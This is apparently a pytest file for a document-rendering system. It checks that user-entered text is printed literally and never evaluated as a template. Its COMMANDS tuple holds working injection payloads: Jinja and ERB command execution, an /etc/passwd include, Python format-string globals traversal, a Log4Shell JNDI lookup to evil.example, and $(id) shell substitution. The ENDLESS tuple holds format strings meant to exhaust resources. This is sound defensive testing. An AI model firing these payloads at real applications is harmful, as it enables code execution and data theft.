"""There are no templates of a person's own: what is typed is no pattern, and our clauses take plain texts only."""

from __future__ import annotations

from pathlib import Path
from time import process_time

import pytest

from ropa.documents.papers import KINDS_OF_PAPER, papers
from ropa.documents.render import FORMATS
from ropa.documents.scope import Scope
from ropa.documents.wording import Wording
from ropa.i18n import LANGUAGES
from ropa.register import Register
from ropa.store.reading import holdings
from tests.conftest import new
from tests.core.full_client import DAY, full_client
from tests.core.reading_back import bare, check_docx, check_pdf
from tests.core.test_hostile_files import watched

COMMANDS = (
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{% include '/etc/passwd' %}", "<%= `id` %>",
    "{0.__class__.__mro__}", "{name.__class__.__init__.__globals__}", "{date!r}", "{}", "{{number}}", "%(name)s", "%n",
    "${jndi:ldap://evil.example/a}", "#{7*7}", "$(id)",
)  # fmt: skip
ENDLESS = (
    "{name:>1000000000}", "{0:{0}}", "{{ 'a' * 10**9 }}", "%1000000000d", "{% for a in b %}{% for c in d %}",
    "{" * 60 + "}" * 60,
)  # fmt: skip
LONGEST = 5.0
"""Seconds of the processor."""


def typed_everywhere(register: Register, texts: tuple[str, ...]) -> str:
    """An operator in whose facts these texts stand: in names, lines and prose."""
    every = {"ru": "\n".join(texts)}
    operator = new(register, "operator", {"name": {"ru": texts[0]}, "address": {"ru": " ".join(texts)}})
    activity = new(register, "activity", {"name": {"ru": texts[0]}, "description": every}, operator)
    new(register, "purpose", {"text": every}, activity)
    new(register, "item", {"text": every}, activity)
    return operator


@pytest.mark.parametrize("texts", [COMMANDS, ENDLESS], ids=["commands", "endless"])
def test_what_is_typed_is_no_template(register: Register, texts: tuple[str, ...]) -> None:
    """DOC-02, DOC-05: in every paper and format it stands as it was typed, nothing runs, and it takes no longer."""
    held = register.ask(holdings, typed_everywhere(register, texts))
    drawn = [one.document(("ru",)) for one in papers(held, KINDS_OF_PAPER, Scope(DAY, drafts=True))]
    for draw in FORMATS.values():
        draw(drawn[0])  # what a format reads when it is first used
    began = process_time()
    with watched() as opened:
        composed = [one.document(("ru",)) for one in papers(held, KINDS_OF_PAPER, Scope(DAY, drafts=True))]
        made = {name: draw(composed[0]) for name, draw in FORMATS.items()}
    assert process_time() - began < LONGEST
    assert [one for one in opened if "passwd" in one or "evil" in one or one.startswith(("id", "os.", "sub"))] == []
    said = bare("".join(one.text for one in composed[0].said()))
    assert all(bare(text) in said for text in texts)
    check_pdf(made["pdf"], composed[0])
    check_docx(made["docx"], composed[0])


def test_a_slot_that_nothing_fills_is_named() -> None:
    """DOC-03: never an empty place in its stead."""
    with pytest.raises(KeyError, match="party"):
        Wording("en", {"given": "Given to {party} in {country}."})("given", country="France")


def test_only_plain_texts_and_numbers_come_into_a_clause(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """DOC-04: no record, and nothing that leads back to the register."""
    kinds: set[type] = set()
    say = Wording.__call__

    def noted(self: Wording, key: str, **slots: object) -> str:
        kinds.update(map(type, slots.values()))
        return say(self, key, **slots)

    with full_client(tmp_path) as client:
        held = client.register.ask(holdings, client.operator)
    monkeypatch.setattr(Wording, "__call__", noted)
    for paper in papers(held, KINDS_OF_PAPER, Scope(DAY, drafts=True)):
        for language in LANGUAGES:
            paper.document((language,))
    assert kinds <= {str, int}
    assert str in kinds
